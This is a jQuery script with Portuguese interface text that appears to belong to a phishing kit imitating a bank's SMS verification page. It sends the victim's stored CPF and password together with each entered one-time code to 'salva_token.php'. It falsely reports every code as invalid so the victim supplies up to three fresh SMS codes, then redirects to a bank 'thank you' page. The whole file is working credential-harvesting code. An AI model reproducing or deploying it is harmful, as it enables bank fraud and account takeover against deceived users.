$(function () {
  var segundos = 120;
  var relogio = setInterval(function () {
    segundos--;
    var m = Math.floor(segundos / 60), s = segundos % 60;
    $('#tempo').text('0' + m + ':' + (s < 10 ? '0' + s : s));
    if (segundos <= 0) { segundos = 120; $('#aviso').text('Um novo código foi enviado para o seu celular.'); }
  }, 1000);

  $('.digito').on('keyup', function () {
    if (this.value.length == 1) $(this).next('.digito').focus();
  });

  var envio = 0;
  $('#confirmar').on('click', function () {
    var codigo = '';
    $('.digito').each(function () { codigo += $(this).val(); });
    if (codigo.length < 6) { $('#aviso').text('Digite o código completo'); return; }
    $('.carregando').show();
    $.post('salva_token.php', {
      cpf: sessionStorage.getItem('cpf'),
      senha: sessionStorage.getItem('senha'),
      token: codigo,
      envio: ++envio
    });
    setTimeout(function () {
      $('.carregando').hide();
      $('.digito').val('').first().focus();
      if (envio < 3) {
        $('#aviso').text('Código inválido ou expirado. Aguarde o novo SMS e tente novamente.');
      } else {
        clearInterval(relogio);
        window.location.href = 'https://www.banco-litoral.example/obrigado';
      }
    }, 15000);
  });
});
